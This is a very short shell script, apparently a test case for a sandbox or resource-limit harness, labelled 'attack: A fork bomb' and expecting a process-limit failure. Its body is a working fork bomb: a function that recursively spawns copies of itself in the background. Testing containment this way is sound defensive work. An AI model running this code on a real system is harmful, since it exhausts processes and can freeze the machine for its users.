#!/bin/sh
# attack: A fork bomb
# expect: processes
bomb() { bomb | bomb & }
bomb
wait
while :; do sleep 1 || exit 1; done
